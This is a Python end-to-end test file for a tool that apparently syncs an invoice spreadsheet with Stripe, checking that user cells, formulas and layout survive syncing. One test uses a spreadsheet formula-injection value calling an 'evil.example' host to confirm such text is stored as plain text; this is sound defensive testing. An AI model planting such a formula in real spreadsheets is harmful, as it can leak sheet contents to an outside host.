"""End to end: people's cells, formulas and layout survive every cycle."""

from __future__ import annotations

from typing import Any

from sheetsync.model import HEADERS, OWNED_COLUMNS
from tests.conftest import PERSON_HEADER, World
from tests.fakes.sheets_server import Formula

ROW = {
    "Status": "draft",
    "Customer Email": "ann@example.com",
    "Description": "Work",
    "Unit Price": "99.00",
}


def test_people_columns_and_formulas_are_untouched(world: World) -> None:
    owned = [HEADERS[c] for c in OWNED_COLUMNS]
    header = ["Notes", *PERSON_HEADER, "Margin", *owned]
    world.make_sheet(
        [
            {**ROW, "Notes": "call first", "Margin": Formula("=F2*0.3", 29.7)},
            {"Notes": "a note on its own row"},
            {**ROW, "Customer Email": "", "Margin": Formula("=F4*0.3", 29.7)},
        ],
        header=header,
    )
    before = world.grid()
    world.run()
    after = world.grid()

    written = {"Status", "Invoice #", *owned}
    for r, (old, new) in enumerate(zip(before, after, strict=True)):
        for c, name in enumerate(header):
            if name not in written or r == 0:
                assert _at(new, c) == _at(old, c), (r, name)
    assert isinstance(after[1][header.index("Margin")], Formula)


def test_text_that_looks_like_a_formula_never_becomes_one(world: World) -> None:
    sneaky = '=IMPORTXML("https://evil.example/", "//x")'
    world.make_sheet(
        [
            {**ROW, "Description": sneaky},
            {**ROW, "Customer Email": sneaky},
            {**ROW, "Invoice #": "+1-555"},
        ]
    )
    world.run()
    grid = world.grid()
    assert not [cell for row in grid for cell in row if isinstance(cell, Formula)]
    rows = world.rows()
    assert rows[0]["Description"] == sneaky and rows[0]["Status"] == "sent"
    assert rows[1]["Status"] == "error" and "=IMPORTXML" in rows[1]["Error"]
    assert world.invoices()[0]["lines"]["data"][0]["description"] == sneaky
    writes = [r for r in world.sheets.requests if r.method_id.endswith("values.batchUpdate")]
    assert writes and all(r.body["valueInputOption"] == "RAW" for r in writes)


def test_missing_sheetsync_columns_are_added_at_the_right(world: World) -> None:
    header = ["Customer Email", "Status", "Description", "Unit Price", "Notes"]
    world.make_sheet([{**ROW, "Notes": "keep"}], header=header, cols=6)
    world.run()
    grid = world.grid()
    assert grid[0][:5] == header
    assert grid[0][5:] == [
        "Sync ID",
        "Stripe ID",
        "Payment URL",
        "PDF URL",
        "Total",
        "Amount Paid",
        "Remaining",
        "Refunded",
        "Paid At",
        "Last Synced",
        "Error",
    ]
    assert world.rows()[0]["Status"] == "sent" and world.rows()[0]["Notes"] == "keep"


def test_only_the_spreadsheets_scope_is_asked_for(world: World) -> None:
    world.make_sheet([ROW])
    world.run()
    assert set(world.sheets.granted_scopes) == {"https://www.googleapis.com/auth/spreadsheets"}


def _at(row: list[Any], index: int) -> Any:
    value = row[index] if index < len(row) else None
    return None if value == "" else value


def test_results_follow_rows_that_moved_while_stripe_was_called(world: World) -> None:
    world.make_sheet(
        [
            {**ROW, "Customer Email": "first@example.com"},
            {**ROW, "Customer Email": "second@example.com"},
        ]
    )
    sheet = world.sheets.sheet(world.spreadsheet_id, "Invoices")

    def person_edits() -> None:  # inserts a row above and sorts the two drafts
        header, *body = sheet.rows
        body.reverse()
        sheet.rows[:] = [header, ["", "", "", "a new row typed meanwhile"], *body]

    world.stripe.before(r"^/v1/invoices$", person_edits, times=1)
    world.run()

    rows = world.rows()
    assert rows[0]["Description"] == "a new row typed meanwhile"
    assert rows[0]["Status"] in (None, "") and rows[0]["Sync ID"] in (None, "")
    by_email = {r["Customer Email"]: r for r in rows[1:]}
    for email, row in by_email.items():
        invoice = world.stripe.get(str(row["Stripe ID"]))
        assert world.stripe.get(invoice["customer"])["email"] == email
        assert row["Status"] == "sent"
